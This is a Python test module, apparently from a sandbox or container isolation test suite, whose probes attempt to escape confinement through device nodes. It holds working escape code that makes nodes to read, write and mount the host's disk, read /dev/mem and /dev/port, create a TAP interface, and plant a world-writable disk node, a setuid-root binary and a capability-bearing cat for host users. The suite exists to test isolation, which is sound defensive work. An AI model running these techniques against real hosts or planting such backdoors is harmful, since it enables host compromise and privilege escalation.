"""Block devices and other device nodes: what a node in the tree opens."""

from __future__ import annotations

import ctypes
import fcntl
import os
import stat
import struct

from tests.escape.inside.probing import (
    PLAIN,
    Finding,
    Lacking,
    Left,
    Reached,
    Surface,
    World,
    check,
    fresh,
    libc,
    marked,
    probe,
)

_TUNSETIFF = 0x400454CA
_IFF_TAP = 0x1002
_LOOP_CTL_GET_FREE = 0x4C82


def _open_node(kind: int, major: int, minor: int, flags: int = os.O_RDONLY) -> int:
    path = os.path.join(fresh("node"), "node")
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    try:
        return os.open(path, flags | os.O_NONBLOCK)
    except (FileNotFoundError, OSError) as error:
        if isinstance(error, PermissionError):
            raise
        raise Lacking(f"no driver for device {major}:{minor} ({error.strerror})") from error


@probe("block devices")
def disk_node(world: World) -> Finding:
    """Make a node of the host's disk and read it."""
    with open(_open_node(stat.S_IFBLK, *world.disk), "rb") as disk:
        return marked(disk.read(1 << 21), "the disk")


@probe("block devices")
def disk_node_in_dev(world: World) -> Finding:
    """Make a node of the host's disk in /dev, a file system of its own, and read it."""
    path = "/dev/disk-of-the-host"
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*world.disk))
    try:
        with open(path, "rb") as disk:
            return marked(disk.read(1 << 21), path)
    finally:
        os.unlink(path)


@probe("block devices")
def disk_node_written(world: World) -> Finding:
    """Write to the host's disk through a node."""
    node = _open_node(stat.S_IFBLK, *world.disk, os.O_RDWR)
    first = os.pread(node, 512, 0)
    os.pwrite(node, first, 0)
    return Reached("wrote to the disk")


@probe("block devices")
def disk_mounted(world: World) -> Finding:
    """Mount the host's disk by a node of it."""
    place = fresh("disk")
    path = os.path.join(place, "node")
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*world.disk))
    os.mkdir(f"{place}/mounted")
    check(libc.mount(path.encode(), f"{place}/mounted".encode(), b"ext2", 1, None), "mount")
    try:
        with open(f"{place}/mounted/secret", "rb") as file:
            return marked(file.read(), "a file of the disk")
    finally:
        libc.umount2(f"{place}/mounted".encode(), 2)


@probe("block devices")
def disk_of_sysfs(world: World) -> Finding:
    """Make nodes of whatever /sys lists as a disk, and open one."""
    listed = sorted(os.listdir("/sys/dev/block"))
    if not listed:
        raise Lacking("no block devices in /sys")
    number = f"{world.disk[0]}:{world.disk[1]}"
    major, minor = (number if number in listed else listed[0]).split(":")
    os.close(_open_node(stat.S_IFBLK, int(major), int(minor)))
    return Reached(f"opened {major}:{minor}")


@probe("block devices", machine=True)
def loop_control(world: World) -> Finding:
    """Ask the host's loop driver for a device, by a node of it."""
    control = _open_node(stat.S_IFCHR, 10, 237, os.O_RDWR)
    return Reached(f"got loop device {fcntl.ioctl(control, _LOOP_CTL_GET_FREE)}")


@probe("memory of others", machine=True)
def memory_node(world: World) -> Finding:
    """Read the machine's memory by a node of /dev/mem."""
    with open(_open_node(stat.S_IFCHR, 1, 1), "rb", buffering=0) as memory:
        return Reached(f"read {len(memory.read(256) or b'')} bytes of memory")


@probe("memory of others", machine=True)
def port_node(world: World) -> Finding:
    """Read the machine's input and output ports by a node of /dev/port."""
    with open(_open_node(stat.S_IFCHR, 1, 4), "rb", buffering=0) as ports:
        return Reached(f"read port 0x80: {os.pread(ports.fileno(), 1, 0x80).hex()}")


@probe("device nodes")
def kernel_log_node(world: World) -> Finding:
    """Read the host's kernel log by a node of /dev/kmsg."""
    with open(_open_node(stat.S_IFCHR, 1, 11), "rb", buffering=0) as log:
        return Reached(f"read {len(log.read(8192) or b'')} bytes of the kernel's log")


@probe("terminals", machine=True)
def console_node(world: World) -> Finding:
    """Open the host's console by a node of it."""
    os.close(_open_node(stat.S_IFCHR, 5, 1, os.O_WRONLY | os.O_NOCTTY))
    return Reached("opened the console for writing")


@probe("device nodes", machine=True)
def tunnel_node(world: World) -> Finding:
    """Make a network interface of the host's by a node of /dev/net/tun."""
    tunnel = _open_node(stat.S_IFCHR, 10, 200, os.O_RDWR)
    fcntl.ioctl(tunnel, _TUNSETIFF, struct.pack("16sH22x", b"escape0", _IFF_TAP))
    return Reached("made the interface escape0")


@probe("device nodes")
def fuse_node(world: World) -> Finding:
    """Open the kernel's FUSE driver by a node of it."""
    os.close(_open_node(stat.S_IFCHR, 10, 229, os.O_RDWR))
    return Surface("the FUSE driver opened")


@probe("device nodes")
def node_by_link(world: World) -> Finding:
    """Read the host's disk by a hard link to a node of it."""
    place = fresh("node")
    os.mknod(f"{place}/node", stat.S_IFBLK | 0o600, os.makedev(*world.disk))
    os.link(f"{place}/node", f"{place}/link")
    with open(f"{place}/link", "rb") as disk:
        return marked(disk.read(1 << 21), "the disk by a hard link of a node")


@probe("device nodes", PLAIN)
def device_remounted(world: World) -> Finding:
    """Remount the tree so that device nodes work, then open one."""
    path = os.path.join(fresh("node"), "node")
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*world.disk))
    place = os.path.dirname(path).encode()
    check(libc.mount(place, place, None, 0x1000, None), "bind")
    check(libc.mount(None, place, None, 0x1000 | 0x20, None), "remount")
    with open(path, "rb") as disk:
        return marked(disk.read(1 << 21), "the disk")


@probe("device nodes")
def device_on_shared_memory(world: World) -> Finding:
    """Make a node on a file system that a program may use as it likes: a memory file's, or /dev/shm."""
    if not os.path.isdir("/dev/shm"):
        raise Lacking("no /dev/shm")
    path = "/dev/shm/disk"
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(*world.disk))
    try:
        with open(path, "rb") as disk:
            return marked(disk.read(1 << 21), path)
    finally:
        os.unlink(path)


@probe("device nodes left behind", PLAIN)
def node_left_behind(world: World) -> Finding:
    """Leave a node of the host's disk in the tree, open to everyone, for a user of the host to find."""
    path = "/left-behind/disk"
    os.makedirs("/left-behind", exist_ok=True)
    os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(*world.disk))
    os.chmod(path, 0o666)
    return Left("a node of the disk")


@probe("set-id files seen from the host", PLAIN)
def set_id_left_behind(world: World) -> Finding:
    """Leave a set-id program of root in the tree, for a user of the host to run."""
    os.makedirs("/left-behind", exist_ok=True)
    path = "/left-behind/id"
    with open("/usr/bin/id", "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    return Left("a set-id copy of id")


@probe("set-id files seen from the host", PLAIN)
def capable_left_behind(world: World) -> Finding:
    """Leave a program with capabilities in the tree, for a user of the host to run."""
    os.makedirs("/left-behind", exist_ok=True)
    path = "/left-behind/cat"
    with open("/usr/bin/cat", "rb") as source, open(path, "wb") as target:
        target.write(source.read())
    os.chmod(path, 0o755)
    # struct vfs_cap_data of linux/capability.h: revision 2, effective; CAP_DAC_OVERRIDE
    attribute = struct.pack("<5I", 0x02000001, 1 << 1, 0, 0, 0)
    buffer = ctypes.create_string_buffer(attribute, len(attribute))
    size = ctypes.c_size_t(len(attribute))
    check(libc.setxattr(path.encode(), b"security.capability", buffer, size, 0), "setxattr")
    return Left("a copy of cat that may read every file")
